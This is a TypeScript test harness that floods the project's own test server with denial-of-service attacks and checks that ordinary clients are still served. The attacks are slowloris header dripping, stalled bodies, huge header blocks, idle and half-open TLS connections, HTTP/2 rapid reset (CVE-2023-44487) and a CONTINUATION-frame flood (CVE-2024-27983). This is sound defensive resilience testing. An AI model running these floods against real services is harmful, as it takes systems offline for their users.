// Clients that occupy resources: slow, silent, too many, and wasteful HTTP/2. Meanwhile and afterwards the server serves other clients.

import { once } from 'node:events'
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
import { createConnection, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import type { Server } from '../support/server.ts'
import { vitalsOf } from './process-health.ts'

export type Flood = (server: Server, size: number) => Promise<() => void>
export type Flooded = {
  readonly name: string
  readonly size: number
  /** Milliseconds of the slowest ordinary request during the flood. */
  readonly slowest: number
  readonly problems: readonly string[]
}

const mib = 2 ** 20
const teams = '/apis/management.platform.sh/v1/teams?limit=1'
const addressOf = (url: string) => ({ host: new URL(url).hostname, port: Number(new URL(url).port) })

async function openSockets(url: string, count: number, first: string | Buffer): Promise<Socket[]> {
  const sockets: Socket[] = []
  for (let index = 0; index < count; index++) {
    const socket = createConnection(addressOf(url))
    socket.on('error', () => {})
    sockets.push(socket)
    if (index % 100 === 99) await once(socket, 'connect').catch(() => {})
    socket.write(first)
  }
  return sockets
}

const destroyAll = (sockets: readonly Socket[]) => () => {
  for (const socket of sockets) socket.destroy()
}

export const floods: { readonly [name: string]: { readonly size: number; readonly run: Flood } } = {
  'a header, byte by byte': {
    size: 500,
    async run(server, size) {
      const sockets = await openSockets(server.http, size, 'GET /readyz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
      const drip = setInterval(() => {
        for (const socket of sockets) socket.write('x')
      }, 50)
      await pause(500)
      return () => {
        clearInterval(drip)
        destroyAll(sockets)()
      }
    },
  },
  'a body that never comes': {
    size: 500,
    async run(server, size) {
      const head = `POST /kubernetes/management${teams} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${server.adminKey}\r\n`
      return destroyAll(
        await openSockets(server.http, size, `${head}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`),
      )
    },
  },
  'headers without end': {
    size: 300,
    async run(server, size) {
      const lines = 'X-Many: many\r\n'.repeat(20_000)
      const sockets = await openSockets(server.http, size, `GET /readyz HTTP/1.1\r\nHost: localhost\r\n${lines}`)
      return destroyAll(sockets)
    },
  },
  'connections that say nothing': {
    size: 2000,
    run: async (server, size) => destroyAll(await openSockets(server.http, size, '')),
  },
  'TLS that is never finished': {
    size: 1000,
    run: async (server, size) =>
      destroyAll(await openSockets(server.https, size, Buffer.from('16030100ff0100', 'hex'))),
  },
  'HTTP/2 requests taken back at once': { size: 20_000, run: rapidReset },
  'HTTP/2 headers that go on and on': { size: 50, run: continuations },
}

/** CVE-2023-44487: each costs the client nothing, and the server the work it has started. */
async function rapidReset(server: Server, size: number): Promise<() => void> {
  let session: ClientHttp2Session | undefined
  for (let sent = 0; sent < size; sent++) {
    if (!session || session.closed || session.destroyed) {
      session = connectHttp2(server.https, { ca: server.ca })
      session.on('error', () => {})
      await Promise.race([once(session, 'connect'), once(session, 'close')]).catch(() => {})
      if (session.destroyed) continue
    }
    const headers = { ':path': `/kubernetes/management${teams}`, authorization: `Bearer ${server.adminKey}` }
    const stream = session.request(headers)
    stream.on('error', () => {})
    stream.close(constants.NGHTTP2_CANCEL)
    if (sent % 100 === 99) await pause(1)
  }
  return () => session?.destroy()
}

/** CVE-2024-27983: headers that never end, frame after frame. The server must end them. */
async function continuations(server: Server, size: number): Promise<() => void> {
  const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
    const head = Buffer.alloc(9)
    head.writeUIntBE(payload.length, 0, 3)
    head[3] = type
    head[4] = flags
    head.writeUInt32BE(stream, 5)
    return Buffer.concat([head, payload])
  }
  /** Literal headers without an index: name "a", value of a hundred bytes. */
  const one = Buffer.concat([Buffer.from([0x00, 0x01, 0x61, 0x64]), Buffer.alloc(100, 0x78)])
  const block = Buffer.concat(Array.from({ length: 150 }, () => one))
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
  const sockets = await Promise.all(
    Array.from({ length: size }, async () => {
      const { host, port } = addressOf(server.https)
      const socket = connectTls({ host, port, ca: server.ca, servername: 'localhost', ALPNProtocols: ['h2'] })
      socket.on('error', () => {})
      await once(socket, 'secureConnect')
      socket.write(Buffer.concat([preface, frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0, 1, block)]))
      for (let count = 0; count < 200 && socket.writable; count++) {
        socket.write(frame(9, 0, 1, block))
        if (count % 20 === 19) await pause(1)
      }
      return socket
    }),
  )
  return destroyAll(sockets)
}

/** A key of another user, because the flooding one may get 429. */
async function bystander(server: Server): Promise<string> {
  const body = { spec: { user: 'bystander' } }
  const answer = await server.request('POST', '/apis/management.platform.sh/v1/ownedaccesskeys', { body })
  return (JSON.parse(answer.text) as { spec: { key: string } }).spec.key
}

/** Ordinary requests of other clients succeed before, during and after the flood. `scale`: relative to its usual size. */
export async function runFlood(server: Server, name: string, scale = 1): Promise<Flooded> {
  const flood = floods[name]
  if (!flood) throw new Error(`there is no flood "${name}"`)
  const key = await bystander(server)
  const vitals = await vitalsOf(server)
  const problems: string[] = []
  let slowest = 0
  let isOver = false
  const ask = async () => {
    const started = performance.now()
    const answer = await server
      .request('GET', teams, { key })
      .catch((error: Error) => ({ status: 0, text: error.message }))
    slowest = Math.max(slowest, performance.now() - started)
    if (answer.status !== 200) problems.push(`meanwhile it answered ${answer.status} ${answer.text.slice(0, 200)}`)
  }
  const asking = (async () => {
    while (!isOver && problems.length < 5) {
      await ask()
      await pause(10)
    }
  })()
  const size = Math.ceil(flood.size * scale)
  const end = await flood.run(server, size)
  for (let times = 0; times < 20; times++) await ask()
  isOver = true
  await asking
  end()
  problems.push(...(await vitals.problems({ growth: 150 * mib })))
  return { name, size, slowest, problems }
}
